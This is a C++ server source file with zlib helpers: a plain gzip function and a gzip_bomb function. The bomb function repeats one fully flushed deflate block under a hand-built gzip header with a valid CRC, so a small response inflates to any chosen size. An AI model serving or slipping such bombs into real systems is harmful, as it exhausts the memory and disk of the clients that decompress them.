#include "compress.h"

#include <zlib.h>

#include <array>
#include <stdexcept>

namespace skillgap::server {
namespace {

constexpr std::size_t kBlock = 1u << 20;
constexpr int kWholeGzip = 15 + 16, kBareDeflate = -15;

std::string deflated(std::string_view text, int window_bits, int flush) {
  z_stream stream{};
  if (deflateInit2(&stream, Z_BEST_COMPRESSION, Z_DEFLATED, window_bits, 9, Z_DEFAULT_STRATEGY) != Z_OK)
    throw std::runtime_error("deflateInit2");
  std::string in{text}, out(deflateBound(&stream, static_cast<uLong>(in.size())) + 64, '\0');
  stream.next_in = reinterpret_cast<Bytef*>(in.data());
  stream.avail_in = static_cast<uInt>(in.size());
  stream.next_out = reinterpret_cast<Bytef*>(out.data());
  stream.avail_out = static_cast<uInt>(out.size());
  const int result = deflate(&stream, flush);
  out.resize(stream.total_out);
  deflateEnd(&stream);
  if (result != (flush == Z_FINISH ? Z_STREAM_END : Z_OK)) throw std::runtime_error("deflate");
  return out;
}

void append_little_endian(std::string& out, uLong value) {
  for (unsigned shift = 0; shift < 32; shift += 8) out += static_cast<char>((value >> shift) & 0xffu);
}

}  // namespace

std::string gzip(std::string_view text) {
  return deflated(text, kWholeGzip, Z_FINISH);
}

std::string gzip_bomb(std::size_t unpacked) {
  // Three letters repeated: of all distances, deflate writes those up to four without further bits.
  std::string block = "<p>";
  while (block.size() < kBlock) block += "Go ";
  block.resize(kBlock);
  // After a full flush a block refers to nothing before it, so it may be repeated.
  const std::string packed = deflated(block, kBareDeflate, Z_FULL_FLUSH);
  const uLong block_crc = crc32(crc32(0, nullptr, 0), reinterpret_cast<const Bytef*>(block.data()), static_cast<uInt>(block.size()));

  std::string out{"\x1f\x8b\x08\0\0\0\0\0\0\x03", 10};
  uLong crc = crc32(0, nullptr, 0), total = 0;
  for (std::size_t i = 0; i < unpacked / kBlock; ++i, total += kBlock) {
    out += packed;
    crc = crc32_combine(crc, block_crc, static_cast<z_off_t>(kBlock));
  }
  out += std::string{"\x03\0", 2};  // the last, empty block
  append_little_endian(out, crc);
  append_little_endian(out, total);
  return out;
}

}  // namespace skillgap::server
